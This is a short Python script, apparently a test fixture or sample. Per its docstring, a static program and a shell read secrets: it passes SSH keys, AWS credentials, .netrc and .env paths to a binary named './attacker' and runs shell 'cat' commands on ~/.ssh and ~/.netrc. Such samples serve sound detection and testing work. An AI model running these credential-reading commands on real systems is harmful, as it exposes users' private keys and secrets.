"""A static program and a shell read keys, credentials and .env."""
import os
import subprocess

for name in ("~/.ssh/id_ed25519", "~/.aws/credentials", "~/.netrc", ".env"):
    subprocess.run(["./attacker", "read", "open", os.path.expanduser(name)])
subprocess.run(["sh", "-c", "cat ~/.ssh/*; cd ~/.ssh && cat id_ed25519; cat < ~/.netrc"])
